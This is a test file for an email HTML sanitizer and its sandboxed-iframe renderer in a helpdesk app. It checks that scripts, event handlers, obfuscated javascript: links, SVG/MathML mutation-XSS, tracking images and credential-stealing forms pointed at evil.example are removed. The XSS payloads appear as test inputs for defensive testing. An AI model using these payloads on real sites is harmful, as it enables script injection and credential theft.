import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { HtmlBody } from '../../renderer/src/ticket/HtmlBody.tsx';
import { BLOCKED_IMAGE_SRC, FRAME_CSP, frameDocument, sanitizeEmailHtml, sanitizeRichText } from '../../renderer/src/ticket/sanitize-html.ts';
import { fakeDesk } from './support/fake-desk.tsx';

/** The sanitized markup parsed back, to assert on elements rather than on strings. */
function parsed(dirty: string): HTMLElement {
  const el = document.createElement('div');
  el.innerHTML = sanitizeEmailHtml(dirty).html;
  return el;
}

afterEach(cleanup);

const PNG = 'data:image/png;base64,iVBORw0KGgo=';

describe('sanitizeEmailHtml', () => {
  it('removes script in every spelling, and keeps the text around it', () => {
    const out = parsed('<p>Hello</p><script>window.pwned=1</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</script><p>Bye</p>');
    expect(out.querySelectorAll('script')).toHaveLength(0);
    expect(out.innerHTML).not.toMatch(/<script/i);
    expect(out.textContent).toContain('Hello');
    expect(out.textContent).toContain('Bye');
  });

  it('drops every event handler attribute', () => {
    const out = parsed(
      '<img src=x onerror="window.pwned=1"><body onload=alert(1)><div onclick="x()" onmouseover=y()>hi</div><a href="https://ok.example" onfocus=z() autofocus>l</a>',
    );
    for (const el of out.querySelectorAll('*')) {
      expect([...el.attributes].map((a) => a.name).filter((n) => n.startsWith('on'))).toEqual([]);
    }
  });

  it('drops javascript:, vbscript: and data: links, even obfuscated, and opens the rest in a new window without an opener', () => {
    const out = parsed(
      '<a id=a1 href="javascript:alert(1)">1</a><a href="JaVaScRiPt&colon;alert(2)">2</a><a href=" &#106;avascript:alert(3)">3</a>' +
        '<a href="java\tscript:alert(4)">4</a><a href="vbscript:msgbox(5)">5</a><a href="data:text/html,<script>alert(6)</script>">6</a>' +
        '<a href="https://shop.example/sale">7</a><a href="mailto:help@acme.example">8</a>',
    );
    const links = [...out.querySelectorAll('a')];
    expect(links).toHaveLength(8);
    expect(links.slice(0, 6).map((a) => a.getAttribute('href'))).toEqual([null, null, null, null, null, null]);
    expect(links[6]?.getAttribute('href')).toBe('https://shop.example/sale');
    expect(links[7]?.getAttribute('href')).toBe('mailto:help@acme.example');
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('removes forms, frames, objects, meta refresh, base and link elements', () => {
    const out = parsed(
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">' +
        '<form action="https://evil.example/steal"><input name=password type=password><button formaction="https://evil.example">Go</button></form>' +
        '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><p>kept</p>',
    );
    expect(out.querySelectorAll('meta, base, link, form, input, button, iframe, object, embed')).toHaveLength(0);
    expect(out.textContent).toContain('kept');
  });

  it('removes SVG and MathML, and their mutation-XSS tricks', () => {
    const out = parsed(
      '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>' +
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>' +
        '<svg><foreignObject><img src=x onerror=alert(5)></foreignObject></svg><p>after</p>',
    );
    expect(out.querySelectorAll('svg, math, script, style, foreignObject')).toHaveLength(0);
    for (const el of out.querySelectorAll('*')) expect([...el.attributes].some((a) => a.name.startsWith('on'))).toBe(false);
    expect(out.textContent).toContain('after');
  });

  it('removes CSS that runs code or fetches from elsewhere, keeps harmless inline style', () => {
    const out = parsed(
      '<div id=x style="width: expression(alert(1))">a</div><div style="background: url(https://track.example/p.gif)">b</div>' +
        '<div style="behavior: url(x.htc)">c</div><div style="-moz-binding: url(x.xml#y)">d</div><p style="color: #333; font-weight: bold">e</p>' +
        '<style>@import "https://evil.example/x.css"; body { background: url(javascript:alert(1)) }</style>',
    );
    const divs = [...out.querySelectorAll('div')];
    expect(divs.map((d) => d.getAttribute('style'))).toEqual([null, null, null, null]);
    expect(out.querySelector('p')?.getAttribute('style')).toBe('color: #333; font-weight: bold');
    expect(out.querySelectorAll('style')).toHaveLength(0);
  });

  it('blocks remote images (and srcset, background) with a placeholder, keeping inline raster images', () => {
    const dirty =
      '<img src="https://track.example/open.gif?u=42" alt="logo"><img src="http://cdn.example/a.png" srcset="https://cdn.example/b.png 2x">' +
      `<img src="${PNG}"><img src="data:image/svg+xml,<svg onload=alert(1)>"><table background="https://track.example/bg.gif"><tr><td>t</td></tr></table>` +
      '<img src="https://track.example/open.gif?u=42">';
    const { html, remoteImageUrls } = sanitizeEmailHtml(dirty);
    expect(remoteImageUrls).toEqual(['https://track.example/open.gif?u=42', 'http://cdn.example/a.png']);
    const out = parsed(dirty);
    const srcs = [...out.querySelectorAll('img')].map((i) => i.getAttribute('src'));
    expect(srcs).toEqual([BLOCKED_IMAGE_SRC, BLOCKED_IMAGE_SRC, PNG, BLOCKED_IMAGE_SRC, BLOCKED_IMAGE_SRC]);
    expect(html).not.toMatch(/track\.example|cdn\.example/);
    expect(out.querySelector('[srcset], [background]')).toBeNull();
  });

  it('shows remote images only from the data: URLs the engine fetched', () => {
    const fetched = new Map([['https://cdn.example/a.png', PNG]]);
    const { html } = sanitizeEmailHtml('<img src="https://cdn.example/a.png"><img src="https://cdn.example/b.png">', { remoteImages: fetched });
    const el = document.createElement('div');
    el.innerHTML = html;
    expect([...el.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([PNG, BLOCKED_IMAGE_SRC]);
  });

  it('puts the sanitized body in a document with a restrictive policy of its own', () => {
    const doc = frameDocument('<p>x</p>');
    expect(doc).toContain(`<meta http-equiv="Content-Security-Policy" content="${FRAME_CSP}">`);
    expect(FRAME_CSP).toMatch(/default-src 'none'/);
    expect(FRAME_CSP).not.toMatch(/script-src|https?:/);
  });
});

describe('sanitizeRichText (an agent\'s message, shown inline)', () => {
  it('keeps what the composer writes: marks, lists, code, links and mentions', () => {
    const html = '<p><strong>Hi</strong> <em>there</em> <code>x</code> <a href="https://orbit.example/a">docs</a> <span class="mention" data-type="mention" data-id="a1" data-label="Lena">@Lena</span></p><ul><li>one</li></ul><pre><code>two</code></pre>';
    const clean = sanitizeRichText(html);
    for (const part of ['<strong>Hi</strong>', '<em>there</em>', '<code>x</code>', '<li>one</li>', '<pre><code>two</code></pre>', 'data-id="a1"', 'href="https://orbit.example/a"', 'rel="noopener noreferrer"']) expect(clean).toContain(part);
  });

  it('drops everything else a hostile client could send: script, handlers, images, styles, frames, forms, javascript: links', () => {
    const clean = sanitizeRichText(
      '<p onclick="x()" style="background:url(https://t.example/p)">a<script>alert(1)</script><img src="https://t.example/i" onerror="x()"><iframe src="https://e.example"></iframe><form><input></form><a href="javascript:alert(1)">b</a><svg><script>1</script></svg></p>',
    );
    expect(clean).not.toMatch(/script|onclick|onerror|style=|<img|<iframe|<form|<input|<svg|javascript:|t\.example|e\.example/);
    expect(clean).toContain('a');
    expect(clean).toContain('>b</a>');
  });
});

describe('HtmlBody', () => {
  const hostile =
    '<h1>Spring sale</h1><p>Dear customer,</p><script>window.pwned = 1</script><img src="https://track.example/pixel.gif" onerror="window.pwned = 2">' +
    '<a href="javascript:window.pwned = 3">Click</a>';

  it('shows the email in a frame sandboxed without scripts or same origin, blocking remote images until asked', async () => {
    const { wrapper, calls } = fakeDesk({ 'attachment.remoteImage': () => ({ dataUrl: PNG }) });
    render(<HtmlBody html={hostile} text="Spring sale. Dear customer," label="Reply from Ada" />, { wrapper });
    const frame = screen.getByTitle('Reply from Ada (formatted email)') as HTMLIFrameElement;
    expect(frame.tagName).toBe('IFRAME');
    expect(frame.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
    const srcdoc = frame.getAttribute('srcdoc') ?? '';
    expect(srcdoc).toContain('Spring sale');
    expect(srcdoc).not.toMatch(/<script|onerror|javascript:|track\.example/i);
    expect((window as { pwned?: unknown }).pwned).toBeUndefined();

    fireEvent.click(screen.getByRole('button', { name: 'Show remote images' }));
    await waitFor(() => expect(frame.getAttribute('srcdoc')).toContain(PNG));
    expect(calls.filter((c) => c.name === 'attachment.remoteImage')).toEqual([{ name: 'attachment.remoteImage', input: { url: 'https://track.example/pixel.gif' } }]);
    expect(screen.queryByRole('button', { name: 'Show remote images' })).toBeNull();
  });

  it('falls back to the plain text body and back', () => {
    const { wrapper } = fakeDesk({});
    render(<HtmlBody html={hostile} text="Plain version of the sale" label="Reply from Ada" />, { wrapper });
    fireEvent.click(screen.getByRole('button', { name: 'Show plain text' }));
    expect(screen.queryByTitle('Reply from Ada (formatted email)')).toBeNull();
    expect(screen.getByText('Plain version of the sale')).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Show formatted' }));
    expect(screen.getByTitle('Reply from Ada (formatted email)')).toBeTruthy();
  });
});
